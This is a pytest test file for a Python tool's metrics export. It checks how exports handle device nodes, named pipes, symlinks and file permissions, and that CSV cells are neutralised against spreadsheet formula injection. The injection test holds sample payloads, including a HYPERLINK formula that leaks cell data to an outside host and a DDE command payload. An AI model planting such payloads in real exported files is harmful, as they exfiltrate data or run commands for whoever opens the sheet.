"""Exports onto devices, pipes and symlinks are written into, never over; CSV cells never run as formulas."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from axtui.metrics.export import ExportQuery, defuse_cell, export, export_to_path
from axtui.store import Store
from tests.metrics.conftest import call, record_calls


@pytest.fixture
def store() -> Store:
    s = Store.open()
    record_calls(s, [call(1_750_000_000.0 + i, user=f"user{i}") for i in range(3)])
    return s


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_exporting_to_a_device_writes_into_it_and_leaves_it_a_device(tmp_path: Path, store: Store) -> None:
    folder = tmp_path / "devices"
    folder.mkdir()
    null = folder / "null"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # the same device as /dev/null
    assert export_to_path(store, null, "csv", ExportQuery()) == 3
    assert stat.S_ISCHR(null.lstat().st_mode)
    assert [p.name for p in folder.iterdir()] == ["null"]  # no temp file left beside it either


def test_exporting_to_a_named_pipe_streams_into_it(tmp_path: Path, store: Store) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    assert export_to_path(store, fifo, "jsonl", ExportQuery()) == 3
    reader.join(10)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert got and got[0].count(b"\n") == 3


def test_exporting_to_dev_stdout_writes_to_the_callers_stdout(tmp_path: Path, store: Store) -> None:
    store.close()
    env = dict(os.environ)  # AX_HOME: the test's store
    out = tmp_path / "captured.csv"
    out.write_text("kept line\n")
    with out.open("a") as handle:  # `ax … -o /dev/stdout >> captured.csv`
        proc = subprocess.run(
            [sys.executable, "-m", "axtui", "monitor", "export", "-o", "/dev/stdout"],
            stdout=handle, stderr=subprocess.PIPE, env=env, timeout=120, check=False,
        )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    text = out.read_text()
    assert text.startswith("kept line\n") and text.count("\n") == 1 + 4  # appended: header and three calls
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_symlinked_export_target_stays_a_symlink_and_its_target_is_replaced(tmp_path: Path, store: Store) -> None:
    real = tmp_path / "reports" / "calls.csv"
    real.parent.mkdir()
    real.write_text("old\n")
    os.chmod(real, 0o644)
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    export_to_path(store, link, "csv", ExportQuery())
    assert link.is_symlink() and real.read_text().startswith("ts,")
    assert stat.S_IMODE(real.stat().st_mode) == 0o644  # an existing file keeps its mode


def test_a_new_export_file_is_readable_by_its_owner_only(tmp_path: Path, store: Store) -> None:
    path = tmp_path / "calls.csv"
    export_to_path(store, path, "csv", ExportQuery())
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("evil", ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"])  # fmt: skip
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(evil: str) -> None:
    s = Store.open()
    record_calls(s, [call(1_750_000_000.0, user=evil, tags=(evil,), requested_model=evil)])
    out = io.StringIO()
    export(s, out, "csv", ExportQuery())
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("user", "tags", "requested_model"):
        assert row[column] == "'" + evil
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["input_tokens"] == "100"  # numbers stay numbers


@pytest.mark.parametrize("number", ["-1", "-0.000123", "+5", "1e-9", "-.5"])
def test_plain_numbers_are_not_touched(number: str) -> None:
    assert defuse_cell(number) == number
